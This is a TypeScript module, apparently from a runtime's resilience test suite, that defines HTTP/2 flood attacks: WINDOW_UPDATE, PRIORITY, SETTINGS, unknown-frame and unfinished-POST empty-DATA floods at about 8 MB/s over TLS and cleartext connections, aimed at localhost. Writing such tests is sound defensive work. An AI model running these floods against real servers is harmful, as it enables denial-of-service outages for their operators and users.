/**
 * HTTP/2 frames that ask for nothing, one connection, without a key: the runtime reads them as fast as
 * they come (`docs/runtime/20-http2-floods.ts`). Some 8 MB a second each.
 *
 * @module
 */
import { concatBytes } from "../kit/http1/bytes.ts";
import { encodeHeaderBlock } from "../kit/http2/hpack.ts";
import { HTTP2_HELLO } from "../kit/http2/http2_flooder.ts";
import { FLAG, formatFrame, FRAME, uint32 } from "../kit/http2/http2_frames.ts";
import type { Attack } from "./attack.ts";

const BLOCK = 64 * 1024;
/** Blocks a second. */
const RATE = 125;
const AT_FULL_SPEED = 10_000;

const NOTHING = new Uint8Array();
const UNKNOWN = 0xee;
/** Weight 16, on no other stream. */
const PRIORITY_PAYLOAD = Uint8Array.of(0, 0, 0, 0, 15);

const WINDOW_UPDATE = formatFrame(FRAME.windowUpdate, 0, 0, uint32(1));
const PRIORITY = formatFrame(FRAME.priority, 0, 1, PRIORITY_PAYLOAD);
const EMPTY_DATA = formatFrame(FRAME.data, 0, 1, NOTHING);

/** HEADERS of a POST whose body is still to come. */
const POST = formatFrame(
  FRAME.headers,
  FLAG.endHeaders,
  1,
  encodeHeaderBlock([
    [":method", "POST"],
    [":scheme", "https"],
    [":authority", "localhost"],
    [":path", "/echo"],
  ]),
);

function flood(
  name: string,
  frame: Uint8Array,
  { speaks = "h2", first = NOTHING, rate = RATE }: {
    speaks?: "h2" | "h2c";
    first?: Uint8Array;
    rate?: number;
  } = {},
): Attack {
  const block = concatBytes(Array(Math.floor(BLOCK / frame.length)).fill(frame));
  return {
    name: `${speaks === "h2" ? "HTTP/2" : "cleartext HTTP/2"} ${name}`,
    speaks,
    takesAWorker: true,
    connections: 1,
    opens: 10,
    first: () => concatBytes([HTTP2_HELLO, first]),
    then: { bytes: () => block, rate },
    reads: true,
  };
}

/** Every such attack. */
export const FLOOD_ATTACKS: readonly Attack[] = [
  flood("WINDOW_UPDATE flood", WINDOW_UPDATE),
  flood("PRIORITY flood", PRIORITY),
  flood("PRIORITY flood at full speed", PRIORITY, { rate: AT_FULL_SPEED }),
  flood("flood of unknown frames", formatFrame(UNKNOWN, 0, 0, NOTHING)),
  flood("SETTINGS flood, 8 MB/s", formatFrame(FRAME.settings, 0, 0, NOTHING)),
  flood("empty DATA without end", EMPTY_DATA, { first: POST }),
  flood("PRIORITY flood", PRIORITY, { speaks: "h2c" }),
  flood("empty DATA without end", EMPTY_DATA, { speaks: "h2c", first: POST }),
];
